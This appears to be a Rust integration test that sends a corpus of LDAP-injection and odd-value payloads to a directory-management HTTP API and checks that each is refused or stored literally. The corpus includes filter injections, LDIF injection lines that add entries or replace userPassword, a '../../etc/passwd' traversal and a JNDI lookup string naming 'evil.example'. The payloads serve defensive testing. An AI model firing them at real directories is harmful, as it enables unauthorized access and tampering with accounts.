//! LDAP injection corpus (issue 9): every payload of [`corpus`] goes everywhere user input
//! reaches an LDAP filter or DN — `filter=` values (on several operators and attributes),
//! the filter's attribute name and operator, `sort=`, `attributes=`, path segments of
//! every resource (percent-encoded, and raw where the request line allows it), group
//! member values (uid and DN forms), and the names and free-text fields of create bodies —
//! over HTTP against the real binary, on the embedded directory and on the project's slapd
//! (the reference for matching).
//!
//! Per payload: never a 5xx; a refusal is a 400 or 404 in the error envelope; a list
//! answers exactly the seeded entries that match the payload *literally* (under the
//! directory's matching rule: case and insignificant spaces folded), never more; a create
//! either is a 400 or stores the value literally (read back equal, found again by an `eq`
//! filter and by its path) in an entry named by that value directly under the right
//! container, and deletes cleanly by its path. At the end nothing else changed: the same
//! users, groups, departments and members as before.
// One scenario reads best as one function; `p` is the payload, `r`/`g`/`d`/`v` answers.
#![allow(clippy::too_many_lines, clippy::many_single_char_names)]

use std::collections::{BTreeSet, HashMap};
use std::fmt::Write as _;
use std::sync::OnceLock;

use heracles_core::dn::{Dn, Rdn};
use heracles_core::schema::Schema;
use percent_encoding::{utf8_percent_encode, NON_ALPHANUMERIC};
use serde_json::{json, Value};

use crate::blackbox::{
    call, drop_slapd_admin, slapd_admin, start_on_slapd, tag, token, Api, ADMIN_PW,
};
use crate::support::{slapd_env, Resp, Server};

const BASE: &str = "dc=example,dc=com";

/// Classic LDAP injection strings and odd values (more than 50).
pub(crate) fn corpus() -> Vec<String> {
    let mut c: Vec<String> = [
        "*",
        "**",
        "*)(uid=*",
        ")(uid=*",
        "*)(|(uid=*",
        "*)(|(uid=*))",
        "admin)(&)",
        "admin)(|(objectClass=*)",
        "*)(objectClass=*",
        "x)(!(uid=x",
        "(|(uid=*))",
        "(&)",
        "(|)",
        "!(uid=*)",
        "objectClass=*",
        r"\2a",
        r"\2A",
        r"\28uid=\2a\29",
        r"\00",
        r"\",
        r"\\",
        r"a\",
        "*\\00*",
        ",",
        "+",
        "=",
        "\"",
        "#",
        "#41",
        "<",
        ">",
        ";",
        "(",
        ")",
        "|",
        "&",
        "!",
        "~=",
        ">=",
        ":=",
        ":dn:=",
        "cn:caseExactMatch:=x",
        "1.2.3.4=x",
        "cn=admin,dc=example,dc=com",
        "uid=admin,ou=people,dc=example,dc=com",
        "ou=people,dc=example,dc=com",
        "ou=sessions,ou=heracles,dc=example,dc=com",
        "admin,ou=people",
        "a,b+c=d",
        "x\"y<z>;",
        " leading",
        "trailing ",
        " ",
        "  two  spaces  ",
        "J\u{fc}rgen",
        "\u{65e5}\u{672c}\u{8a9e}",
        "\u{1f600}",
        "\u{130}",
        "\u{ff41}\u{ff44}\u{ff4d}\u{ff49}\u{ff4e}",
        "e\u{301}",
        "\u{202e}nimda",
        "ad\u{200b}min",
        "\u{feff}",
        "%00",
        "%2a",
        "%2A",
        "%28uid=%2a%29",
        "%252a",
        "../",
        "../../etc/passwd",
        "..",
        ".",
        "/",
        "a\nb",
        "a\rb",
        "\t",
        "a\r\ndn: uid=evil,ou=people,dc=example,dc=com",
        "dn: uid=evil,ou=people,dc=example,dc=com\nchangetype: add\nobjectClass: top",
        "-\nreplace: userPassword\nuserPassword: x",
        "' or '1'='1",
        "${jndi:ldap://evil.example/a}",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    c.push("a\0b".into());
    c.push("\0".into());
    c.push("*\0".into());
    c.push("\u{1}".into());
    c.push("a\u{7f}".into());
    c.push("a".repeat(2000));
    c.push("*".repeat(300));
    c.push(format!("{}*", "(".repeat(100)));
    assert!(c.len() >= 50);
    c
}

/// Percent-encodes everything but letters and digits (a query value or a path segment).
fn enc(s: &str) -> String {
    utf8_percent_encode(s, NON_ALPHANUMERIC).to_string()
}

/// Whether `s` may stand raw in a path segment (RFC 3986 `pchar`, `%` included so that
/// `%00`/`%2a` are decoded by the server).
fn raw_ok(s: &str) -> bool {
    !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-._~!$&'()*+,;=:@%".contains(&b))
        && s != "."
        && s != ".."
}

/// The value as the directory compares values of `attr` (its equality rule, e.g.
/// `caseIgnoreMatch`: NFKC, simple lower case, insignificant spaces; `caseIgnoreIA5Match`
/// for `mail`: ASCII only): the core's implementation of slapd's rules, which the slapd
/// run of this test checks against the real thing. `None`: not a valid value for it.
fn fold(attr: &str, s: &str) -> Option<String> {
    static SCHEMA: OnceLock<Schema> = OnceLock::new();
    let rule = SCHEMA
        .get_or_init(Schema::builtin)
        .effective_equality(attr)
        .unwrap();
    rule.normalize(s.as_bytes())
        .ok()
        .map(|v| String::from_utf8(v).unwrap())
}

/// A literal match of the value `value` of `attr` against `payload` by `op`.
fn literal(attr: &str, op: &str, value: &str, payload: &str) -> bool {
    let v = fold(attr, value).unwrap();
    // A substring part of spaces only is no constraint (its spaces are insignificant).
    let p = if op != "eq" && payload.trim().is_empty() {
        Some(String::new())
    } else {
        fold(attr, payload)
    };
    let Some(p) = p else {
        return false;
    };
    match op {
        "eq" => v == p,
        "contains" => v.contains(&p),
        "starts" => v.starts_with(&p),
        "ends" => v.ends_with(&p),
        _ => unreachable!(),
    }
}

/// Whether the folded comparison is exact for this payload: no spaces at the edges or in
/// runs, which LDAP substring matching treats differently from a whole value.
fn fold_is_exact(p: &str) -> bool {
    !p.trim().is_empty()
        && p == p.trim()
        && !p.contains("  ")
        && !p.chars().any(|c| c.is_whitespace() && c != ' ')
}

/// Asserts a refusal in the envelope: 400 or 404 with a code.
fn refused(r: &Resp, what: &str) {
    assert!(
        matches!(r.status, 400 | 404),
        "{what}: expected 400 or 404, got {}: {}",
        r.status,
        r.text()
    );
    let v = r.json();
    assert!(
        v["error"]["code"].as_str().is_some_and(|c| !c.is_empty()),
        "{what}: {v}"
    );
}

fn no_5xx(r: &Resp, what: &str) {
    assert!(r.status < 500, "{what}: {} {}", r.status, r.text());
}

fn uids(v: &Value) -> BTreeSet<String> {
    v["data"]
        .as_array()
        .unwrap_or_else(|| panic!("no data: {v}"))
        .iter()
        .map(|u| u["uid"].as_str().unwrap().to_owned())
        .collect()
}

/// A seeded user: uid and the values of the attributes filtered on.
struct Seed {
    uid: String,
    attrs: HashMap<&'static str, String>,
}

fn seeds(t: &str) -> Vec<Seed> {
    let rows: [(&str, &str, &str, &str); 5] = [
        ("a", "Ann * Star", "Ast", "a*)(uid=* literally"),
        ("b", "Bob (paren) | & !", "Bpar", "x)(!(uid=x"),
        (
            "c",
            "Cy \\ back, comma+plus=eq \"q\" #h ; <>",
            "Cback",
            "\\2a",
        ),
        (
            "d",
            "Dee J\u{fc}rgen \u{65e5}\u{672c}\u{8a9e} \u{1f600}",
            "Duni",
            "../ %2a %00",
        ),
        ("e", "Eve Plain", "Eplain", "plain"),
    ];
    rows.iter()
        .map(|(suffix, cn, sn, description)| {
            let uid = format!("{t}{suffix}");
            let mut attrs = HashMap::new();
            attrs.insert("uid", uid.clone());
            attrs.insert("cn", (*cn).to_owned());
            attrs.insert("sn", (*sn).to_owned());
            attrs.insert("description", (*description).to_owned());
            attrs.insert("mail", format!("{uid}@example.com"));
            Seed { uid, attrs }
        })
        .collect()
}

/// The uids of users matching `filters`, restricted to this run's (`uid:starts:t`).
fn list_tagged(api: &Api<'_>, t: &str, filters: &[String]) -> Resp {
    let mut q = format!("filter=uid%3Astarts%3A{}&limit=1000", enc(t));
    for f in filters {
        write!(q, "&filter={}", enc(f)).unwrap();
    }
    api.get(&format!("/api/v1/users?{q}"))
}

#[test]
fn injection_corpus_embedded() {
    let s = Server::start_env(&[], &[("HERACLES_ADMIN_PASSWORD", ADMIN_PW)]);
    run(&s, "admin", &tag("i"), true);
}

#[test]
fn injection_corpus_slapd() {
    let env = slapd_env();
    let t = tag("j");
    // Not under this run's tag: lists restricted to it must not see the administrator.
    let admin = tag("adm");
    slapd_admin(&env, &admin);
    let s = start_on_slapd(&env);
    run(&s, &admin, &t, false);
    drop_slapd_admin(&env, &admin);
}

/// The totals of the collections (compared before and after on a private directory).
fn totals(api: &Api<'_>) -> Vec<(String, u64)> {
    [
        "users",
        "groups",
        "departments",
        "systems",
        "sudo",
        "templates",
        "dns/zones",
        "acl/policies",
        "acl/assignments",
        "dhcp/services",
    ]
    .iter()
    .map(|c| {
        let r = api.get(&format!("/api/v1/{c}?limit=1"));
        assert_eq!(r.status, 200, "{c}: {}", r.text());
        (
            (*c).to_owned(),
            r.json()["pagination"]["total"].as_u64().unwrap(),
        )
    })
    .collect()
}

fn run(s: &Server, admin: &str, t: &str, private: bool) {
    let api = Api {
        s,
        token: token(s, admin, ADMIN_PW),
    };
    // Seed: five users with special characters in their values, a group holding the first,
    // a DNS zone.
    let seeded = seeds(t);
    for u in &seeded {
        let mut body = json!({});
        for (k, v) in &u.attrs {
            body[*k] = json!(v);
        }
        let r = api.post("/api/v1/users", &body);
        assert_eq!(r.status, 201, "{}", r.text());
        for (k, v) in &u.attrs {
            assert_eq!(r.json()[*k], json!(v), "{k} stored literally");
        }
    }
    let group = format!("{t}g");
    let r = api.post(
        "/api/v1/groups",
        &json!({"cn": group, "members": [seeded[0].uid]}),
    );
    assert_eq!(r.status, 201, "{}", r.text());
    let zone = format!("{t}.test");
    let r = api.post(
        "/api/v1/dns/zones",
        &json!({"zoneName": zone, "zoneType": "forward", "primaryNs": "ns1.example.com",
                "adminEmail": "admin@example.com"}),
    );
    assert_eq!(r.status, 201, "{}", r.text());
    let all: BTreeSet<String> = seeded.iter().map(|u| u.uid.clone()).collect();
    let r = list_tagged(&api, t, &[]);
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(uids(&r.json()), all);
    let before = private.then(|| totals(&api));

    let corpus = corpus();
    let mut stored = Vec::new();
    let mut names_a_user = Vec::new();
    for (i, p) in corpus.iter().enumerate() {
        filter_values(&api, t, p, &seeded);
        names(&api, p);
        if !paths(&api, p, &seeded[0].uid, &group, &zone) {
            names_a_user.push(p.as_str());
        }
        members(&api, p, &group, &seeded[0].uid);
        if creates(&api, &format!("{t}n{i}"), p, &zone) {
            stored.push(p.as_str());
        }
    }
    // Most odd values are legal free text and were stored as given.
    assert!(
        stored.len() * 2 > corpus.len(),
        "only {} of {} stored: {stored:?}",
        stored.len(),
        corpus.len()
    );

    // Only compatibility forms of a real uid name a user.
    assert!(names_a_user.len() <= 1, "{names_a_user:?}");

    // Nothing else changed.
    let r = list_tagged(&api, t, &[]);
    assert_eq!(uids(&r.json()), all);
    let g = api.get(&format!("/api/v1/groups/{group}"));
    assert_eq!(g.status, 200, "{}", g.text());
    assert_eq!(g.json()["members"], json!([seeded[0].uid]));
    assert_eq!(g.json()["memberCount"], 1);
    for u in &seeded {
        let r = api.get(&format!("/api/v1/users/{}", u.uid));
        assert_eq!(r.status, 200, "{}", r.text());
        for (k, v) in &u.attrs {
            assert_eq!(r.json()[*k], json!(v), "{k} of {}", u.uid);
        }
    }
    if let Some(before) = before {
        assert_eq!(totals(&api), before);
    }
    // Clean up (the shared slapd outlives the run).
    assert_eq!(api.delete(&format!("/api/v1/dns/zones/{zone}")).status, 204);
    assert_eq!(api.delete(&format!("/api/v1/groups/{group}")).status, 204);
    for u in &seeded {
        assert_eq!(api.delete(&format!("/api/v1/users/{}", u.uid)).status, 204);
    }
    assert!(!s.stderr().contains("panicked"), "{}", s.stderr());
}

/// `filter=ATTR:OP:PAYLOAD`: exactly the seeded users that match literally.
fn filter_values(api: &Api<'_>, t: &str, p: &str, seeded: &[Seed]) {
    let cases = [
        ("uid", "eq"),
        ("cn", "eq"),
        ("cn", "contains"),
        ("cn", "starts"),
        ("cn", "ends"),
        ("sn", "contains"),
        ("description", "eq"),
        ("description", "contains"),
        ("mail", "starts"),
    ];
    for (attr, op) in cases {
        let clause = format!("{attr}:{op}:{p}");
        let what = format!("filter {clause:?}");
        let r = list_tagged(api, t, std::slice::from_ref(&clause));
        if clause.len() > 1024 || p.contains('\0') {
            // Too long, or a NUL (slapd cut IA5 values there: `mail:starts:\0` matched
            // every entry before the core refused it).
            r.assert_error(400, "INVALID_FILTER");
            continue;
        }
        assert_eq!(r.status, 200, "{what}: {}", r.text());
        let got = uids(&r.json());
        let expected: BTreeSet<String> = seeded
            .iter()
            .filter(|u| literal(attr, op, &u.attrs[attr], p))
            .map(|u| u.uid.clone())
            .collect();
        if fold_is_exact(p) {
            assert_eq!(got, expected, "{what}");
        } else {
            // Spaces at the edges: substring matching keeps some that `fold` drops, so
            // the directory's answer is finer, never wider.
            assert!(got.is_subset(&expected), "{what}: {got:?} ⊄ {expected:?}");
        }
    }
    // Without the restriction to this run: each answer matches literally.
    let r = api.get(&format!(
        "/api/v1/users?filter={}",
        enc(&format!("uid:eq:{p}"))
    ));
    if r.status == 200 {
        for u in r.json()["data"].as_array().unwrap() {
            let uid = u["uid"].as_str().unwrap();
            assert!(literal("uid", "eq", uid, p), "uid:eq:{p:?} answered {uid}");
        }
    } else {
        r.assert_error(400, "INVALID_FILTER");
    }
    // The other lists, on their naming attribute.
    for (path, field) in [
        ("groups", "cn"),
        ("departments", "ou"),
        ("systems", "cn"),
        ("sudo", "cn"),
        ("templates", "name"),
        ("dns/zones", "zoneName"),
        ("acl/policies", "name"),
        ("audit", "actor"),
    ] {
        let clause = format!("{field}:eq:{p}");
        let r = api.get(&format!("/api/v1/{path}?filter={}", enc(&clause)));
        let what = format!("{path} {clause:?}");
        no_5xx(&r, &what);
        if r.status != 200 {
            refused(&r, &what);
            continue;
        }
        for item in r.json()["data"].as_array().unwrap() {
            let v = item[field].as_str().unwrap_or_default();
            assert!(literal("cn", "eq", v, p), "{what} answered {item}");
        }
    }
    // A group's members by DN (distinguishedNameMatch): nothing that is not this DN.
    let r = api.get(&format!(
        "/api/v1/groups?filter={}",
        enc(&format!("member:eq:{p}"))
    ));
    no_5xx(&r, "member:eq");
    if r.status == 200 {
        for g in r.json()["data"].as_array().unwrap() {
            // Only groups holding the user this DN names (`uid=admin,ou=people,...`).
            let dn = Dn::parse(p).unwrap_or_else(|e| panic!("member:eq:{p:?} answered {g}: {e}"));
            let uid = dn.rdn().unwrap().value();
            assert!(
                g["members"].as_array().unwrap().iter().any(|m| literal(
                    "uid",
                    "eq",
                    m.as_str().unwrap(),
                    uid
                )),
                "member:eq:{p:?} answered {g}"
            );
        }
    } else {
        refused(&r, "member:eq");
    }
}

/// The payload as a filter attribute or operator, a sort key, an attribute list.
fn names(api: &Api<'_>, p: &str) {
    for clause in [
        format!("{p}:eq:x"),
        format!("{p}:present"),
        format!("cn:{p}:x"),
        format!("cn:{p}"),
    ] {
        let r = api.get(&format!("/api/v1/users?filter={}", enc(&clause)));
        r.assert_error(400, "INVALID_FILTER");
    }
    for sort in [p.to_owned(), format!("-{p}"), format!("cn,{p}")] {
        let r = api.get(&format!("/api/v1/users?sort={}", enc(&sort)));
        let v = r.assert_error(400, "VALIDATION_FAILED");
        assert_eq!(v["error"]["details"]["field"], "sort", "{sort:?}");
    }
    for (attributes, allowed) in [
        (p.to_owned(), &["dn"][..]),
        (format!("uid,{p}"), &["dn", "uid"][..]),
    ] {
        let r = api.get(&format!("/api/v1/users?attributes={}", enc(&attributes)));
        if r.status == 200 {
            // Only possible if the payload names nothing (e.g. "uid,,"): nothing extra.
            for u in r.json()["data"].as_array().unwrap() {
                for k in u.as_object().unwrap().keys() {
                    assert!(
                        allowed.contains(&k.as_str()),
                        "attributes={attributes:?}: {u}"
                    );
                }
            }
        } else {
            let v = r.assert_error(400, "VALIDATION_FAILED");
            assert_eq!(v["error"]["details"]["field"], "attributes");
        }
    }
    for path in [
        "groups",
        "departments",
        "audit",
        "acl/policies",
        "dns/zones",
    ] {
        for q in [
            format!("filter={}", enc(&format!("{p}:eq:x"))),
            format!("sort={}", enc(p)),
            format!("attributes={}", enc(p)),
        ] {
            let r = api.get(&format!("/api/v1/{path}?{q}"));
            refused(&r, &format!("{path}?{q}"));
        }
    }
}

/// The payload as a path segment of every resource: never found, never a 5xx, never a
/// write.
/// Answers `false` (and writes nothing) when the payload names an existing user under
/// the matching rule (the full-width `ａｄｍｉｎ` is `admin`, as `ADMIN` is).
fn paths(api: &Api<'_>, p: &str, user: &str, group: &str, zone: &str) -> bool {
    let mut segments = vec![enc(p)];
    if raw_ok(p) {
        segments.push(p.to_owned());
    }
    let r = api.get(&format!("/api/v1/users/{}", enc(p)));
    if r.status == 200 {
        let uid = r.json()["uid"].as_str().unwrap().to_owned();
        assert!(literal("uid", "eq", &uid, p), "/users/{p:?} answered {uid}");
        return false;
    }
    for seg in segments {
        let gets = [
            format!("/api/v1/users/{seg}"),
            format!("/api/v1/users/{seg}/ssh-keys"),
            format!("/api/v1/groups/{seg}"),
            format!("/api/v1/departments/{seg}"),
            format!("/api/v1/departments/{seg}?parent={}", enc(p)),
            format!("/api/v1/departments/x?parent={seg}"),
            format!("/api/v1/templates/{seg}"),
            format!("/api/v1/systems/{seg}"),
            format!("/api/v1/sudo/{seg}"),
            format!("/api/v1/dns/zones/{seg}"),
            format!("/api/v1/dns/zones/{seg}/records"),
            format!("/api/v1/dhcp/services/{seg}"),
            format!("/api/v1/acl/policies/{seg}"),
            format!("/api/v1/acl/permissions/{seg}"),
            format!("/api/v1/settings/{seg}"),
        ];
        for path in &gets {
            refused(&api.get(path), &format!("GET {path}"));
        }
        let deletes = [
            format!("/api/v1/users/{seg}"),
            format!("/api/v1/users/{user}/ssh-keys/{seg}"),
            format!("/api/v1/groups/{seg}"),
            format!("/api/v1/groups/{group}/members/{seg}"),
            format!("/api/v1/departments/{seg}"),
            format!("/api/v1/systems/{seg}"),
            format!("/api/v1/sudo/{seg}"),
            format!("/api/v1/templates/{seg}"),
            format!("/api/v1/dns/zones/{seg}"),
            format!("/api/v1/dns/zones/{zone}/records/{seg}/A"),
            format!("/api/v1/dns/zones/{zone}/records/www/{seg}"),
            format!("/api/v1/acl/policies/{seg}"),
            format!("/api/v1/acl/assignments/{seg}"),
        ];
        for path in &deletes {
            refused(&api.delete(path), &format!("DELETE {path}"));
        }
        for path in [
            format!("/api/v1/users/{seg}/lock"),
            format!("/api/v1/users/{seg}/unlock"),
        ] {
            let r = call(api.s, "POST", &path, Some(&api.token), None, &[]);
            refused(&r, &format!("POST {path}"));
        }
        let r = call(
            api.s,
            "PUT",
            &format!("/api/v1/users/{seg}"),
            Some(&api.token),
            Some(&json!({"description": "overwritten"})),
            &[],
        );
        refused(&r, &format!("PUT /users/{seg}"));
    }
    true
}

/// The payload as a member to add: a uid, a DN built around it, a list.
fn members(api: &Api<'_>, p: &str, group: &str, first: &str) {
    let path = format!("/api/v1/groups/{group}/members");
    for body in [
        json!({ "member": p }),
        json!({ "member": format!("uid={p},ou=people,{BASE}") }),
        json!({ "members": [p] }),
    ] {
        let r = api.post(&path, &body);
        let what = format!("POST {path} {body}");
        if r.status != 200 {
            refused(&r, &what);
            continue;
        }
        // Only a uid or DN naming an existing user literally (`uid=admin,ou=people,...`,
        // a full-width `ａｄｍｉｎ`) adds a member, exactly that one; it is removed again.
        let added = body["member"]
            .as_str()
            .or(body["members"][0].as_str())
            .unwrap();
        let named = if added.contains('=') {
            let dn = Dn::parse(added).unwrap_or_else(|e| panic!("{what}: added, not a DN: {e}"));
            let people = Dn::parse(&format!("ou=people,{BASE}")).unwrap();
            assert_eq!(dn.parent().unwrap(), people, "{what}");
            dn.rdn().unwrap().value().to_owned()
        } else {
            added.to_owned()
        };
        let v = r.json();
        let members: Vec<&str> = v["members"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m.as_str().unwrap())
            .collect();
        assert_eq!(members.len(), 2, "{what}: {v}");
        assert!(members.contains(&first), "{what}: {v}");
        let uid = members.iter().find(|m| **m != first).unwrap().to_string();
        assert!(literal("uid", "eq", &uid, &named), "{what}: added {uid}");
        let d = api.delete(&format!("{path}/{}", enc(&uid)));
        assert!(matches!(d.status, 200 | 204), "{what}: {}", d.text());
    }
}

/// Creates with the payload as a name (must be refused or stored literally under the
/// right container) and as free text of a user (`{uid}`). Answers whether the free text
/// was stored.
fn creates(api: &Api<'_>, uid: &str, p: &str, zone: &str) -> bool {
    // As a uid: never valid.
    let r = api.post("/api/v1/users", &json!({"uid": p, "cn": "x", "sn": "y"}));
    r.assert_error(400, "VALIDATION_FAILED");

    // As free text of a user.
    let r = api.post(
        "/api/v1/users",
        &json!({"uid": uid, "cn": p, "sn": p, "description": p}),
    );
    no_5xx(&r, "user with odd cn");
    let stored = r.status == 201;
    if stored {
        let v = r.json();
        let dn = Dn::parse(v["dn"].as_str().unwrap()).unwrap();
        assert_eq!(
            dn,
            Dn::parse(&format!("uid={uid},ou=people,{BASE}")).unwrap()
        );
        let g = api.get(&format!("/api/v1/users/{uid}"));
        assert_eq!(g.status, 200, "{}", g.text());
        for k in ["cn", "sn", "description"] {
            assert_eq!(v[k], json!(p), "{k} answered");
            assert_eq!(g.json()[k], json!(p), "{k} read back");
        }
        // Found again by its value, and only it.
        let clause = format!("cn:eq:{p}");
        if clause.len() <= 1024 && !p.contains('\0') {
            let r = api.get(&format!(
                "/api/v1/users?filter={}&filter=uid%3Aeq%3A{uid}",
                enc(&clause)
            ));
            assert_eq!(r.status, 200, "{}", r.text());
            assert_eq!(
                uids(&r.json()),
                BTreeSet::from([uid.to_owned()]),
                "{clause:?}"
            );
        }
        assert_eq!(api.delete(&format!("/api/v1/users/{uid}")).status, 204);
    } else {
        refused(&r, &format!("user with cn {p:?}"));
    }

    // As the name of an object.
    let names: [(&str, Value, &str, String); 6] = [
        (
            "groups",
            json!({"cn": p}),
            "cn",
            format!("ou=groups,{BASE}"),
        ),
        (
            "departments",
            json!({"ou": p}),
            "ou",
            format!("ou=departments,{BASE}"),
        ),
        (
            "systems",
            json!({"cn": p, "type": "server"}),
            "cn",
            format!("ou=servers,ou=systems,{BASE}"),
        ),
        (
            "sudo",
            json!({"cn": p, "sudoUser": ["ALL"], "sudoHost": ["ALL"], "sudoCommand": ["ALL"]}),
            "cn",
            format!("ou=sudoers,{BASE}"),
        ),
        (
            "templates",
            json!({"name": p, "defaults": {}}),
            "name",
            String::new(),
        ),
        (
            "acl/policies",
            json!({"name": p, "permissions": ["user:read"]}),
            "name",
            String::new(),
        ),
    ];
    for (collection, body, field, container) in names {
        let r = api.post(&format!("/api/v1/{collection}"), &body);
        let what = format!("create {collection} {p:?}");
        no_5xx(&r, &what);
        if r.status != 201 {
            let v = r.assert_error(400, "VALIDATION_FAILED");
            assert!(v["error"]["details"]["field"].is_string(), "{what}: {v}");
            continue;
        }
        let v = r.json();
        assert_eq!(v[field], json!(p), "{what}");
        // Named by the value, directly under its container.
        if !container.is_empty() {
            let dn = Dn::parse(v["dn"].as_str().unwrap()).unwrap();
            let expected = Dn::parse(&container)
                .unwrap()
                .child(Rdn::new(field, p).unwrap());
            assert_eq!(dn, expected, "{what}");
        }
        let path = format!("/api/v1/{collection}/{}", enc(p));
        let g = api.get(&path);
        assert_eq!(g.status, 200, "{what}: GET {path}: {}", g.text());
        assert_eq!(g.json()[field], json!(p), "{what}");
        let d = api.delete(&path);
        assert_eq!(d.status, 204, "{what}: DELETE {path}: {}", d.text());
        refused(&api.get(&path), &format!("{what}: gone"));
    }
    // As a DNS record name.
    let records = format!("/api/v1/dns/zones/{zone}/records");
    let r = api.post(
        &records,
        &json!({"name": p, "type": "A", "value": "192.0.2.1"}),
    );
    no_5xx(&r, "record");
    if r.status == 201 {
        let path = format!("{records}/{}/A", enc(p));
        let d = api.delete(&path);
        assert_eq!(d.status, 204, "record {p:?}: DELETE {path}: {}", d.text());
    } else {
        r.assert_error(400, "VALIDATION_FAILED");
    }
    stored
}
